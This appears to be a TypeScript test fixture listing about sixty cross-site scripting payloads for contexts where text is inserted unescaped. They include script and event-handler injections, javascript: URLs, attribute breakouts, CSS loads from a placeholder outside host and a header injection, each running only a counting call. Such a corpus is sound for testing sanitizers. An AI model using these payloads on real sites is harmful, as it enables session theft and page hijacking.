/** Where a payload acts when nobody escapes it. The control puts it there raw. */
export const CONTEXTS = {
  content: (raw: string): string => `<div>${raw}</div><p class="x">x</p>`,
  title: (raw: string): string => `<title>${raw}</title>`,
  textarea: (raw: string): string => `<textarea>${raw}</textarea>`,
  comment: (raw: string): string => `<!-- ${raw} -->`,
  value: (raw: string): string => `<input value="${raw}">`,
  single: (raw: string): string => `<input value='${raw}'>`,
  bare: (raw: string): string => `<input value=${raw}>`,
  address: (raw: string): string => `<iframe src="${raw}"></iframe>`,
  link: (raw: string): string => `<a href="${raw}">x</a><script>document.links[0].click()</script>`,
  handler: (raw: string): string => `<img src="x:" onerror="String('${raw}')">`,
  script: (raw: string): string => `<script>const x = "${raw}"</script>`,
  /** A script whose author thought of quotes, and not of backslashes. */
  quoted: (raw: string): string => `<script>const x = "${raw.replaceAll('"', '\\"')}"</script>`,
  json: (raw: string): string => `<script type="application/json">${JSON.stringify({ x: raw })}</script>`,
  template: (raw: string): string => `<script>const x = \`${raw}\`</script>`,
  note: (raw: string): string => `<script>// ${raw}</script>`,
  style: (raw: string): string => `<style>p { color: ${raw} }</style><p>x</p>`,
  styled: (raw: string): string => `<p style="color: ${raw}">x</p>`,
} as const

type Context = keyof typeof CONTEXTS

export interface Payload {
  readonly number: number
  readonly context: Context
  readonly text: string
}

/** A host that is not ours. */
export const ELSEWHERE = 'http://elsewhere.example'

/** RUN is a call that is counted, and HOST an address whose requests are. */
const TEXTS: readonly (readonly [Context, string])[] = [
  // Script elements.
  ['content', '<script>RUN</script>'],
  ['content', '<ScRiPt type=module>RUN</sCrIpT >'],
  ['content', '<script src=data:text/javascript,RUN></script>'],
  ['content', '<script/x>RUN</script\n>'],
  ['content', '<script src="HOST"></script>'],
  ['content', '<<script>RUN//<</script>'],
  ['content', '<svg><script>&#x72;&#x61;&#x6e;(NUMBER)</script></svg>'],
  ['content', '</main></body></html><script>RUN</script>'],
  // Handlers.
  ['content', '<img src=x: onerror=RUN>'],
  ['content', '<img src=x: onerror="RUN"//'],
  ['content', '<img/src="x:"/onerror=RUN>'],
  ['content', '<img src=x:\tonerror\n=\r"RUN">'],
  ['content', '<body onload=RUN>'],
  ['content', '<details open ontoggle=RUN>x</details>'],
  ['content', '<video><source onerror=RUN></video>'],
  ['content', '<audio src=x: onerror=RUN></audio>'],
  ['content', '<input type=image src=x: onerror=RUN>'],
  ['content', '<style onload=RUN></style>'],
  ['content', '<x tabindex=0 id=me onfocus=RUN>x</x><script>me.focus()</script><svg onload=RUN>'],
  // Addresses.
  ['address', 'javascript:RUN'],
  ['address', 'JaVaScRiPt:RUN'],
  ['address', 'java\tscri\npt:RUN'],
  ['address', '\u0001\u001f javascript:RUN'],
  ['address', '&#106;avascript&colon;RUN'],
  ['address', 'javascript://%0aRUN'],
  ['address', 'data:text/html,<script>parent.postMessage(NUMBER, String.fromCharCode(42))</script>'],
  ['link', 'javascript:RUN//'],
  ['address', '//elsewhere.example/NUMBER'],
  ['address', '/\\elsewhere.example/NUMBER'],
  ['address', '/\t/elsewhere.example/NUMBER'],
  // Attributes that end too soon, or never.
  ['value', '"><script>RUN</script>'],
  ['value', '" type=image src=x: onerror=RUN x="'],
  ['single', "'><img src=x: onerror=RUN>"],
  ['single', "' type=image src=x: onerror='RUN"],
  ['bare', 'x type=image src=x: onerror=RUN'],
  ['bare', '`><svg/onload=RUN>'],
  ['content', '<img src=x: onerror=RUN alt="'],
  ['handler', "');RUN//"],
  ['handler', '&#39;);RUN//'],
  // Texts that end too soon.
  ['title', '</title><svg onload=RUN>'],
  ['textarea', '</textarea><svg onload=RUN>'],
  ['comment', '--><svg onload=RUN><!--'],
  ['comment', '--!><svg onload=RUN>'],
  // Scripts with data in them.
  ['script', '</script><script>RUN</script>'],
  ['script', '";RUN;"'],
  ['script', '"-RUN-"'],
  ['quoted', '\\";RUN//'],
  ['json', '</script><script>RUN</script><!--'],
  ['template', '$' + '{RUN}'],
  ['note', 'x\u2028RUN'],
  // Other languages within.
  ['content', '<svg><animate onbegin=RUN attributeName=x dur=1s>'],
  ['content', '<svg><style><img src=x: onerror=RUN></style></svg>'],
  ['content', '<math><annotation-xml encoding=text/html><img src=x: onerror=RUN></math>'],
  ['content', '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>'],
  ['style', 'red} p{background:url(HOST)}'],
  ['styled', 'red;background:url(HOST)'],
  // Letters that are not what they seem, and heads that end too soon.
  ['content', '\u202e\ufeff<img src=x: onerror=\\u0072an(NUMBER)>\u0000'],
  ['content', '\ud800<img src=x: onerror=RUN>\udfff'],
  ['content', 'x\r\nset-cookie: stolen=1\r\ncontent-type: text/html\r\n\r\n<script>RUN</script>'],
  // All at once.
  ['value', `x'"\`--></title></textarea></style></script><svg/onload=RUN>$\{RUN}{{RUN}}javascript:RUN//`],
]

/** What people have put into names and messages of jobs so that a page runs it. */
export const payloads: readonly Payload[] = TEXTS.map(([context, text], number) => ({
  number,
  context,
  text: text
    .replaceAll('RUN', `ran(${number})`)
    .replaceAll('HOST', `${ELSEWHERE}/${number}`)
    .replaceAll('NUMBER', String(number)),
}))
